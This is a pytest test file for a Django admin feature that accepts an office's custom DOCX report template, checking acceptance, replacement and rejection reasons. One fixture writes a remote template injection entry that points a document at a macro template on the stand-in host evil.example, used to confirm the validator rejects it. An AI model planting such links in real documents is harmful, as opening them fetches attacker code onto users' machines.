"""The office's own template in the administration: validation and use."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document

from reports.exports.docx_template import built_in_template
from reports.models import ReportFile, ReportTemplate
from reports.services.report_files import report_file
from tests import factories
from tests.reports.conftest import publish

ADD = "/admin/reports/reporttemplate/add/"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OUTSIDE = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached'
    'Template" '
    'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def repacked(change, add=()):
    """Return the built-in template with its parts replaced by `change(name, content)`."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(built_in_template())) as given,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package,
    ):
        for name in given.namelist():
            package.writestr(name, change(name, given.read(name)))
        for name, content in add:
            package.writestr(name, content)
    return target.getvalue()


def same(_name, content):
    return content


def with_macros(name, content):
    return content.replace(PLAIN.encode(), MACRO.encode()) if name == "[Content_Types].xml" else content


def with_a_link(name, content):
    return content.replace(b"</Relationships>", OUTSIDE.encode()) if name == "word/_rels/document.xml.rels" else content


def without_place(name, content):
    return content.replace(b"{{ tresc }}", b"nic") if name == "word/document.xml" else content


@pytest.fixture
def admin_page(office, client):
    client.force_login(factories.administrator())
    return client


def send(admin_page, content, name="wzor.docx"):
    return admin_page.post(ADD, {"file": SimpleUploadedFile(name, content)})


def test_valid_template_is_stored_and_used(admin_page, office):
    document = Document(io.BytesIO(built_in_template()))
    document.sections[0].header.paragraphs[0].text = "Herb urzędu"
    target = io.BytesIO()
    document.save(target)
    assert send(admin_page, target.getvalue()).status_code == 302
    assert ReportTemplate.objects.get().name == "wzor.docx"
    document = Document(io.BytesIO(report_file(publish(office), "docx")))
    assert document.sections[0].header.paragraphs[0].text == "Herb urzędu"
    # Another template replaces it; published files do not change.
    assert send(admin_page, built_in_template(), "drugi.docx").status_code == 302
    assert ReportTemplate.objects.get().name == "drugi.docx"
    assert b"Herb" not in bytes(ReportTemplate.objects.get().content)
    assert ReportFile.objects.count() == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (repacked(with_macros), "makra"),
        (repacked(same, [("word/vbaProject.bin", b"x")]), "makra"),
        (repacked(with_a_link), "pobiera coś z\u00a0zewnątrz"),
        (repacked(without_place), "tresc"),
        (b"PK nic", "nie odpowiada rozszerzeniu"),
        (b"%PDF-1.7", "nie odpowiada rozszerzeniu"),
        (b"x" * (2 * 1024 * 1024 + 1), "ponad 2 MB"),
    ],
    ids=["macros", "a project of macros", "a link outside", "no place", "no archive", "a PDF", "too large"],
)
def test_invalid_template_is_rejected_with_reason(admin_page, content, message):
    answer = send(admin_page, content)
    assert answer.status_code == 200
    errors = str(answer.context["adminform"].form.errors["file"])
    assert message in errors
    assert not ReportTemplate.objects.exists()


def test_report_falls_back_to_built_in_template(office):
    ReportTemplate.objects.create(name="stary.docx", content=repacked(without_place))
    assert Document(io.BytesIO(report_file(publish(office), "docx"))).paragraphs
